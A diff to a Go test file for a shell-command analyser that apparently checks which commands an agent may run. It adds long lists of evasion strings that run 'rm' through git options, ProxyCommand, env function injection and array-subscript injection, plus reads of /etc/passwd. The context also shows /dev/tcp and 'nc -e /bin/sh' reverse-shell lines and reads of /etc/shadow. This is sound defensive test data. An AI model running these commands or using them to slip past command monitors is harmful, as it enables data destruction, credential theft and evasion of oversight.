@@ -1,6 +1,7 @@
 package shell_test
 
 import (
+	"slices"
 	"strings"
 	"testing"
 
@@ -50,7 +51,7 @@ func TestCommandLinesAreRead(t *testing.T) {
 		"sudo -u root env A=1 nice -n 5 cat /etc/shadow": {
 			"command:sudo -u root env A=1 nice -n 5 cat /etc/shadow", "command:env A=1 nice -n 5 cat /etc/shadow", "command:nice -n 5 cat /etc/shadow", "command:cat /etc/shadow", "file.read:/etc/shadow",
 		},
-		"python3 tool.py x":        {"command:python3 tool.py x", "file.read:/work/tool.py"},
+		"python3 tool.py x":        {"command:python3 tool.py x", "file.read:/work/tool.py", "command:"},
 		"exec 3<>/dev/tcp/evil/80": {"host.connect:evil:80", "command:exec"},
 		"command -v rm":            {"command:command -v rm"},
 		"if true; then ls; fi":     {"command:true", "command:ls"},
@@ -85,6 +86,44 @@ var evasions = []string{
 	"python -c 'import os; os.system(\"rm x\")'", "python3 -c 1", "python3.12 -c 1", "perl -e 'system \"rm x\"'", "perl -ne 'print' x", "ruby -e '`rm x`'", "node -e 1", "node --eval 1", "php -r 1", "awk 'BEGIN{system(\"rm x\")}'", "gawk -f x", "awk '{print | \"rm x\"}' f", "awk '{ \"rm x\" | getline }' f", "awk -v a=1 -f x f", "lua -e 1", "python - <<E\nimport os\nE", "python <<< 'import os'", "echo x | python", "sed '1e rm x' f", "sed 's/a/rm x/e' f", "ssh -o ProxyCommand='rm x' h", "ssh h rm x", "ssh h 'rm x'", "ssh h \"$X\"", "nc -e /bin/sh h 1", "nc -c sh h 1", "socat tcp:h:1 EXEC:rm", "sqlite3 x '.shell rm x'", "sqlite3 x '.system rm x'", "psql -c '\\! rm x'",
 	"if", "rm 'x", "$((", "echo \"", "a(", "\x00rm x", "rm\x00 x", "echo a\x00; rm x", "<<E", "((((", strings.Repeat("(", 3000), "echo " + strings.Repeat("x", 20<<10), strings.Repeat("sh -c '", 20) + "rm x", "echo {1..1000000000} {1..1000000000}; rm x", "echo " + strings.Repeat("{a,b}", 60) + "; rm x",
 	"bash -c 'bash -c \"bash -c \\\"rm x\\\"\"'", "nohup nohup nohup nohup nohup nohup nohup nohup nohup nohup rm x", "eval eval eval eval eval eval eval eval eval rm x", "rm<x", ">x rm y", "2>&1 rm x", "<x rm y", "rm>x", "&>x rm y",
+}
+
+// more run rm by programs and options that no table has, or change one of them.
+var more = []string{
+	"env - rm V", "env -vS 'rm V'", "xargs -i rm {}", "xargs env <<< 'rm V'", "prlimit --nproc=5 rm V", "setarch -R rm V", "x86_64 rm V", "linux32 rm V", "choom -n 1 rm V", "start-stop-daemon --start --exec /bin/rm -- V",
+	"/lib64/ld-linux-x86-64.so.2 /bin/rm V", "script -qc 'rm V'", "script FILE -c 'rm V'", "capsh -- -c 'rm V'", "strace -o '|rm V' ls", "trap -- 'rm V' EXIT", "x='a[$(rm V)]'; echo $((x))", "x='a[$(rm V)]'; [[ x -eq 1 ]]", "test -v 'a[$(rm V)]'",
+	"printf -v 'a[$(rm V)]' x", "read 'a[$(rm V)]' <<< x", "let 'a[$(rm V)]'", "x='$(rm V)'; echo ${x@P}", "vim -c ':!rm V'", "ex V", "ed V", "less +'!rm V' x", "man -P 'rm V' ls", "scp -oProxyCommand='rm V' x h:", "sftp -oProxyCommand='rm V' h",
+	"rsync --rsh='rm V' a h:b", "rsync -e 'rm V' a h:b", "make --eval='$(shell rm V)'", "git fetch --upload-pack='rm V;' .", "git fetch --upload='rm V;' .", "git archive --exec='rm V' x", "git rebase --exec='rm V' x", "git rebase -x 'rm V' x", "git bisect run rm V", "git submodule foreach 'rm V'",
+	"git difftool -x 'rm V'", "git grep -O'rm V' x", "git filter-branch --tree-filter 'rm V'", "git config alias.x '!rm V'", "git config core.fsmonitor 'rm V'", "git x", "HOME=/tmp git status", "XDG_CONFIG_HOME=/tmp git status", "GIT_CONFIG_GLOBAL=/tmp/x git status",
+	"GIT_CONFIG_PARAMETERS=x git log", "GIT_SEQUENCE_EDITOR='rm V' git rebase -i x", "MAKEFLAGS=x ls", "RSYNC_RSH='rm V' rsync a h:b", "SHELL=/tmp/x ls", "env 'BASH_FUNC_ls%%=() { rm V; }' bash -c ls", "ln -s /bin/rm /tmp/safe; /tmp/safe V", "cp /bin/rm ./ls; ./ls V", "make", "npm test",
+	"sort --compress-program='rm V' x", "sort --compress-p=x y", "split --filter='rm V' x", "tar -I 'rm V' -xf x", "tar --to-command='rm V' -xf x", "rg --pre 'rm V' x y", "python3 tool.py", "node tool.js", "unheard-of V",
+}
+
+func TestWhatIsNotKnownMayRunAnything(t *testing.T) {
+	t.Parallel()
+	for _, text := range more {
+		if got := shell.Read(text, "/work"); !seesRM(got) {
+			t.Errorf("%.80q is read as %q", text, lines(got))
+		}
+	}
+}
+
+// Lines that use /etc/passwd. Each must be seen to use it, or a file that is not known.
+func TestFilesOfUnknownProgramsAreSeenOrUnknown(t *testing.T) {
+	t.Parallel()
+	for _, text := range []string{
+		"column F", "paste F", "fold F", "comm F x", "join F F", "expand F", "fmt F", "pr F", "shuf F", "iconv F", "gzip -c F", "xz -c F", "bzip2 -c F", "basenc --base16 F", "csplit F 1", "split F", "file -f F", "date -f F", "ul F", "ptx F",
+		"ex F", "git diff --no-index x F", "git -C /etc grep x", "gcc @F", "history -r F", "ssh -F F h", "echo F | xargs cat", "xargs -a F echo", "cat ~root/../etc/passwd", "HOME=/etc; cat ~/passwd", "curl file:F", "curl -K F", "ln -sfn / l; cat l/etc/passwd",
+		"unheard-of F", "unheard-of --x=F", "unheard-of -xF", "sort -f/etc/passwd", "test -e F", "openssl enc -in F", "tar cf - F",
+	} {
+		got := lines(shell.Read(strings.ReplaceAll(text, "F", "/etc/passwd"), "/work"))
+		seen := slices.ContainsFunc(got, func(line string) bool {
+			return strings.HasPrefix(line, "file") && (strings.HasSuffix(line, ":") || strings.HasSuffix(line, "/etc/passwd") || strings.HasSuffix(line, ":/etc"))
+		})
+		if !seen {
+			t.Errorf("%q is read as %q", text, got)
+		}
+	}
 }
 
 func seesRM(effects []toolroom.Effect) bool {
